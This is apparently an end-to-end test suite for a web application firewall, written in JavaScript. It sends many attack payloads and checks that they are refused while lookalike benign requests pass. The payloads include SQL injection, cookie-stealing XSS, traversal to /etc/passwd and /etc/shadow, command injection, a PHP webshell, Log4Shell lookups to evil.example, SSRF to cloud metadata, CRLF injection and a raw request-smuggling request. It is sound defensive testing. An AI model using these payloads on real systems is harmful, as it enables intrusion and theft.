// The web application firewall end to end: real attack payloads of every class, in every
// target (path, query, header, cookie, JSON, form and multipart bodies), encoded the ways
// attackers encode them, are refused before the origin sees them; benign requests that look
// alike reach it intact; log mode, exclusions, paranoia levels, custom rules on `request.cf`,
// body limits, smuggling signs and the per-rule metrics.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import net from "node:net";
import { chromium } from "playwright-core";
import { startOrigin, startGateway, ADMIN_TOKEN } from "./harness.mjs";

const CHROMIUM = process.env.CHROMIUM_BIN ?? "/usr/bin/chromium";

let origin, gateway;
const BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";

before(async () => {
  origin = await startOrigin("app");
  const document = {
    version: 1,
    services: { app: { upstreams: [origin.url] } },
    firewall: { mode: "block" },
    routes: [
      { name: "api", path: "/api/{*rest}", methods: ["GET", "POST", "PUT"], service: "app" },
      { name: "watch", path: "/watch/{*rest}", methods: ["GET", "POST"], service: "app", firewall: { mode: "log" } },
      {
        name: "cms", path: "/cms/{*rest}", methods: ["POST"], service: "app",
        firewall: { exclude: [{ rules: ["xss"], targets: ["body:/post/html"] }, { rules: [942100], targets: ["query:filter"] }] },
      },
      { name: "strict", path: "/strict/{*rest}", methods: ["POST"], service: "app", firewall: { paranoia: 2 } },
      { name: "small", path: "/small/{*rest}", methods: ["POST"], service: "app", firewall: { body_bytes: 1024 } },
      {
        name: "custom", path: "/custom/{*rest}", service: "app",
        firewall: {
          rules: [
            { id: "office", target: "ip", operator: "cidr", value: ["203.0.113.0/24"], action: "allow" },
            { id: "no-bots", target: "cf:botManagement.score", operator: "lt", value: 30, score: 5 },
            { id: "legacy-client", target: "header:user-agent", operator: "contains", value: "LegacyClient/1", action: "block" },
            { id: "only-eu", target: "cf:country", operator: "in", value: ["DE", "FR", "NL"], negate: true, score: 3 },
          ],
        },
      },
      { name: "open", path: "/open/{*rest}", methods: ["GET", "POST"], service: "app", firewall: false },
    ],
  };
  gateway = await startGateway({ document, directSocket: true });
});

after(async () => {
  await gateway?.close();
  await origin?.close();
});

const PAYLOADS = {
  sqli: ["1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "x'; DROP TABLE users; --", "1 AND SLEEP(5)"],
  xss: ["<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "\" autofocus onfocus=\"alert(1)", "javascript:alert(1)"],
  lfi: ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/shadow"],
  rce: ["; cat /etc/passwd", "$(whoami)", "| id", "& ipconfig /all"],
  php: ["<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php"],
  node: ["require('child_process').exec('id')", "constructor.constructor('return process')()"],
  java: ["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil.example/x}", "T(java.lang.Runtime).getRuntime().exec('id')"],
  ssrf: ["http://169.254.169.254/latest/meta-data/", "http://0x7f000001:8080/admin", "gopher://127.0.0.1:6379/_FLUSHALL"],
};

// Header values cannot hold CR, LF or non-ASCII; SSRF is not read from headers (Referer holds
// the site's own URLs).
const encodings = {
  plain: (p) => encodeURIComponent(p),
  double: (p) => encodeURIComponent(encodeURIComponent(p)),
  mixed: (p) => [...p].map((c) => (/[a-z]/i.test(c) && Math.random() < 0.5 ? `%${c.charCodeAt(0).toString(16)}` : encodeURIComponent(c))).join(""),
};

async function refused(res, what) {
  assert.equal(res.status, 403, `${what}: ${res.status}`);
  assert.match(res.headers.get("content-type") ?? "", /application\/problem\+json/);
  const problem = await res.json();
  assert.equal(problem.code, "waf-blocked", what);
  assert.ok(problem.rules.length > 0, what);
  assert.ok(problem.request_id, what);
  return problem;
}

test("every class of payload is refused in the query, encoded every way, and the origin never sees it", async () => {
  const before = origin.requests.length;
  for (const [cls, payloads] of Object.entries(PAYLOADS)) {
    for (const payload of payloads) {
      for (const [name, encode] of Object.entries(encodings)) {
        const res = await gateway.fetch(`/api/search?q=${encode(payload)}`, { headers: { "user-agent": BROWSER } });
        const problem = await refused(res, `${cls} ${name} ${payload}`);
        assert.ok(!JSON.stringify(problem).includes(payload), "the payload is not echoed");
      }
    }
  }
  assert.equal(origin.requests.length, before);
});

test("payloads are refused in path segments, headers, cookies, JSON, form and multipart bodies", async () => {
  const before = origin.requests.length;
  for (const [cls, payloads] of Object.entries(PAYLOADS)) {
    for (const payload of payloads) {
      const h = { "user-agent": BROWSER };
      await refused(await gateway.fetch(`/api/items/${encodeURIComponent(payload)}`, { headers: h }), `${cls} path ${payload}`);
      if (cls !== "ssrf") {
        await refused(await gateway.fetch("/api/x", { headers: { ...h, "x-note": payload } }), `${cls} header ${payload}`);
      }
      await refused(await gateway.fetch("/api/x", { headers: { ...h, cookie: `theme=dark; pref=${encodeURIComponent(payload)}` } }), `${cls} cookie ${payload}`);
      const json = JSON.stringify({ order: { items: [{ note: payload }] } });
      const problem = await refused(await gateway.fetch("/api/orders", { method: "POST", headers: { ...h, "content-type": "application/json" }, body: json }), `${cls} json ${payload}`);
      assert.ok(problem.rules.length > 0);
      // JSON's own escapes hide nothing.
      const escaped = JSON.stringify({ note: payload }).replace(/[<>'&]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
      await refused(await gateway.fetch("/api/orders", { method: "POST", headers: { ...h, "content-type": "application/json" }, body: escaped }), `${cls} json-escaped ${payload}`);
      const form = `name=Ann&comment=${encodeURIComponent(payload)}`;
      await refused(await gateway.fetch("/api/forms", { method: "POST", headers: { ...h, "content-type": "application/x-www-form-urlencoded" }, body: form }), `${cls} form ${payload}`);
      const multipart = new FormData();
      multipart.append("title", "hello");
      multipart.append("comment", payload);
      await refused(await gateway.fetch("/api/upload", { method: "POST", headers: h, body: multipart }), `${cls} multipart ${payload}`);
    }
  }
  assert.equal(origin.requests.length, before);
});

test("HTML entities, JS escapes and overlong UTF-8 are undone; the access log names rule and target, not the value", async () => {
  const h = { "user-agent": BROWSER };
  const cases = [
    "/api/x?q=%26lt%3Bimg%20src%3Dx%20onerror%3Dalert(1)%26gt%3B",
    "/api/x?q=%5Cu003cscript%5Cu003ealert(1)%5Cu003c%2Fscript%5Cu003e",
    "/api/x?file=..%c0%af..%c0%afetc%c0%afpasswd",
    "/api/x?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "/api/x?q=1%27%2F**%2FUNION%2F**%2FSELECT%2F**%2F1%2C2--",
  ];
  for (const path of cases) await refused(await gateway.fetch(path, { headers: h }), path);
  const problem = await refused(await gateway.fetch("/api/x?secret_probe=%3Cscript%3Ealert(1)%3C%2Fscript%3E", { headers: h }), "logged");
  const record = gateway.accessLogs().find((l) => l.request_id === problem.request_id);
  assert.equal(record.status, 403);
  assert.equal(record.error_code, "waf-blocked");
  assert.equal(record.firewall.blocked, true);
  assert.ok(record.firewall.score >= 5);
  assert.ok(record.firewall.matches.every((m) => m.target === "query:secret_probe"));
  assert.ok(!JSON.stringify(record).includes("alert(1)"), "the log keeps the target, never the payload");
});

test("benign requests that look like attacks reach the origin intact", async () => {
  const h = { "user-agent": BROWSER };
  const queries = [
    "name=Conan%20O'Brien", "q=select%20the%20best%20from%20the%20menu", "q=tea%20or%20coffee",
    "q=rock%20%26%20roll%3B%20more%20later", "path=docs%2Fguide%2Fintro.md", "file=C%3A%2FUsers%2Fann%2Freport.pdf",
    "q=I'd%20like%201%20or%202", "site=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc", "q=1%20%3C%202%20and%203%20%3E%202",
    "sort=-created_at&page=2", "q=union%20of%20two%20sets", "email=ann%40example.com", "q=100%25%20cotton",
  ];
  for (const q of queries) {
    const res = await gateway.fetch(`/api/search?${q}`, { headers: h });
    assert.equal(res.status, 200, q);
    assert.equal(decodeURIComponent((await res.json()).url), decodeURIComponent(`/api/search?${q}`));
  }
  const body = JSON.stringify({
    name: "Miles O'Hara", bio: "I select from the best; or so they say. Drop me a line!",
    address: "12 Union Street", notes: "Tom & Jerry <3", path: "/var/data/report.csv", price: "5 or 6",
    homepage: "https://example.org/~miles", tags: ["sql", "select", "delete"],
  });
  const res = await gateway.fetch("/api/profile", { method: "PUT", headers: { ...h, "content-type": "application/json" }, body });
  assert.equal(res.status, 200);
  assert.equal(origin.requests.at(-1).body, body, "the inspected body is the one the origin gets");
  const form = "comment=Great+product%2C+I%27d+buy+it+again%21&rating=5";
  assert.equal((await gateway.fetch("/api/review", { method: "POST", headers: { ...h, "content-type": "application/x-www-form-urlencoded" }, body: form })).status, 200);
  assert.equal(origin.requests.at(-1).body, form);
});

test("log mode lets the request through and records the rule ids, targets and score", async () => {
  const res = await gateway.fetch("/watch/x?q=%27%20OR%20%271%27%3D%271", { headers: { "user-agent": BROWSER, "x-request-id": "waf-log-1" } });
  assert.equal(res.status, 200);
  const record = gateway.accessLogs().find((l) => l.request_id === "waf-log-1");
  assert.equal(record.firewall.mode, "log");
  assert.equal(record.firewall.blocked, false);
  assert.ok(record.firewall.score >= record.firewall.threshold);
  assert.deepEqual([...new Set(record.firewall.matches.map((m) => m.target))], ["query:q"]);
  assert.ok(record.firewall.matches.some((m) => m.rule === "942100"));
});

test("exclusions by class and target let a rich-text field carry HTML; elsewhere it is refused", async () => {
  const h = { "user-agent": BROWSER, "content-type": "application/json" };
  const post = { post: { title: "Hello", html: "<p>Hi <b>there</b><img src=x onerror=alert(1)></p>" } };
  assert.equal((await gateway.fetch("/cms/posts", { method: "POST", headers: h, body: JSON.stringify(post) })).status, 200);
  const misplaced = { post: { title: "<img src=x onerror=alert(1)>", html: "<p>ok</p>" } };
  const problem = await refused(await gateway.fetch("/cms/posts", { method: "POST", headers: h, body: JSON.stringify(misplaced) }), "title");
  assert.ok(problem.rules.includes("941110"));
  // Rule 942100 is excluded for `filter` only: other SQL rules and other parameters still count.
  assert.equal((await gateway.fetch("/cms/q?filter=x%27%20or%20%27a%27%3D%27a", { method: "POST", headers: { "user-agent": BROWSER } })).status, 200);
  await refused(await gateway.fetch("/cms/q?other=x%27%20or%20%27a%27%3D%27a", { method: "POST", headers: { "user-agent": BROWSER } }), "other");
});

test("paranoia level 2 refuses what level 1 lets pass", async () => {
  const h = { "user-agent": BROWSER, "content-type": "application/json" };
  const body = JSON.stringify({ comment: "<b>bold</b> move" });
  assert.equal((await gateway.fetch("/api/c", { method: "POST", headers: h, body })).status, 200);
  const problem = await refused(await gateway.fetch("/strict/c", { method: "POST", headers: h, body }), "pl2");
  assert.ok(problem.rules.includes("941170"));
});

test("bodies beyond the inspection limit and bodies that do not parse are refused; binary ones pass unread", async () => {
  const h = { "user-agent": BROWSER, "content-type": "application/json" };
  const big = JSON.stringify({ filler: "a".repeat(2000) });
  assert.ok((await refused(await gateway.fetch("/small/x", { method: "POST", headers: h, body: big }), "big")).rules.includes("920400"));
  assert.ok((await refused(await gateway.fetch("/api/x", { method: "POST", headers: h, body: "{\"a\": " }), "malformed")).rules.includes("920410"));
  const bytes = new Uint8Array(4096).map((_, i) => i % 251);
  const res = await gateway.fetch("/api/blob", { method: "POST", headers: { "user-agent": BROWSER, "content-type": "application/octet-stream" }, body: bytes });
  assert.equal(res.status, 200);
});

test("scanners, smuggling signs, NUL bytes and CRLF injection are protocol anomalies", async () => {
  await refused(await gateway.fetch("/api/x", { headers: { "user-agent": "sqlmap/1.8.2#stable (https://sqlmap.org)" } }), "sqlmap");
  await refused(await gateway.fetch("/api/x", { headers: { "user-agent": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)" } }), "nikto");
  await refused(await gateway.fetch("/api/x?f=report.pdf%00.php", { headers: { "user-agent": BROWSER } }), "nul");
  await refused(await gateway.fetch("/api/x?next=%0d%0aSet-Cookie:%20admin=1", { headers: { "user-agent": BROWSER } }), "crlf");
  // Content-Length with Transfer-Encoding: the runtime's HTTP parser settles the framing
  // before the Worker runs (the firewall's own check is for runtimes that pass both on), so
  // the origin never gets a request whose framing two parsers could read differently.
  const before = origin.requests.length;
  for (const base of [gateway.url, gateway.direct]) await smuggle(new URL(base).port);
  await new Promise((r) => setTimeout(r, 200));
  const seen = origin.requests.slice(before);
  assert.ok(!seen.some((r) => r.headers["content-length"] && r.headers["transfer-encoding"]));
  assert.ok(!seen.some((r) => r.body.includes("smuggled")));
});

async function smuggle(port) {
  return new Promise((resolve, reject) => {
    const socket = net.connect(Number(port), "127.0.0.1", () => {
      socket.write("POST /api/x HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: x\r\nConnection: close\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/smuggled HTTP/1.1\r\nX: y\r\n\r\n");
    });
    let data = "";
    socket.on("data", (d) => { data += d; if (data.includes("\r\n\r\n")) socket.end(); });
    socket.on("end", () => resolve(data));
    socket.on("error", reject);
    setTimeout(() => { socket.destroy(); resolve(data); }, 3000);
  });
}

test("custom rules: allow by address, block by header, score by request.cf bot score and country", async () => {
  const cf = (fields) => ({ "mf-cf-blob": JSON.stringify(fields) });
  const h = { "user-agent": BROWSER };
  assert.equal((await fetch(`${gateway.direct}/custom/x`, { headers: { ...h, ...cf({ country: "DE", botManagement: { score: 80 } }) } })).status, 200);
  const bot = await fetch(`${gateway.direct}/custom/x`, { headers: { ...h, ...cf({ country: "DE", botManagement: { score: 5 } }) } });
  assert.deepEqual((await refused(bot, "bot")).rules, ["no-bots"]);
  // A country outside the list adds 3: under the threshold alone, over it with one more rule.
  assert.equal((await fetch(`${gateway.direct}/custom/x`, { headers: { ...h, ...cf({ country: "US", botManagement: { score: 90 } }) } })).status, 200);
  const combined = await fetch(`${gateway.direct}/custom/x?q=%3Cb%3E`, { headers: { ...h, ...cf({ country: "US", botManagement: { score: 25 } }) } });
  assert.deepEqual((await refused(combined, "combined")).rules.sort(), ["no-bots", "only-eu"]);
  const legacy = await fetch(`${gateway.direct}/custom/x`, { headers: { "user-agent": "LegacyClient/1.2", ...cf({ country: "FR" }) } });
  assert.deepEqual((await refused(legacy, "legacy")).rules, ["legacy-client"]);
  // Trusted addresses skip the firewall, and the log says which rule let them.
  const trusted = await gateway.fetch("/custom/x?q=%27%20or%201%3D1--", { headers: { ...h, "cf-connecting-ip": "203.0.113.9", "x-request-id": "waf-allow-1" } });
  assert.equal(trusted.status, 200);
  assert.equal(gateway.accessLogs().find((l) => l.request_id === "waf-allow-1").firewall.allowed_by, "office");
  // A route with `firewall: false` reads nothing.
  assert.equal((await gateway.fetch("/open/x?q=%27%20or%201%3D1--", { headers: h })).status, 200);
});

test("the metrics count blocked requests per rule", async () => {
  const auth = { authorization: `Bearer ${ADMIN_TOKEN}` };
  let rules;
  for (let i = 0; i < 30; i++) {
    const summary = await (await gateway.fetch("/__gateway/metrics?minutes=5", { headers: auth })).json();
    rules = summary.firewall_rules;
    if (rules?.["942100"]?.blocked > 0 && summary.routes.api?.firewall?.blocked > 0) break;
    await new Promise((r) => setTimeout(r, 300));
  }
  assert.ok(rules["942100"].blocked > 0);
  assert.ok(rules["942100"].matched >= rules["942100"].blocked);
  const prometheus = await (await gateway.fetch("/__gateway/metrics/prometheus", { headers: auth })).text();
  assert.match(prometheus, /gateway_firewall_matches_total\{rule="942100",outcome="blocked"\} [1-9]/);
});

test("the dashboard lists blocked requests per rule", { skip: !fs.existsSync(CHROMIUM) && `no browser at ${CHROMIUM}` }, async () => {
  const browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox", "--disable-gpu", "--no-first-run"] });
  try {
    const page = await browser.newPage();
    await page.goto(`${gateway.url}/__gateway/dashboard#token=${ADMIN_TOKEN}`);
    await page.waitForSelector("body[data-state=ready]");
    const cells = await page.$$eval('#firewall tr[data-rule="942100"] td', (tds) => tds.map((td) => td.textContent));
    assert.equal(cells[0], "942100");
    assert.ok(Number(cells[1]) > 0, "blocked requests are counted");
    assert.ok(Number(cells[2]) >= Number(cells[1]));
  } finally {
    await browser.close();
  }
});
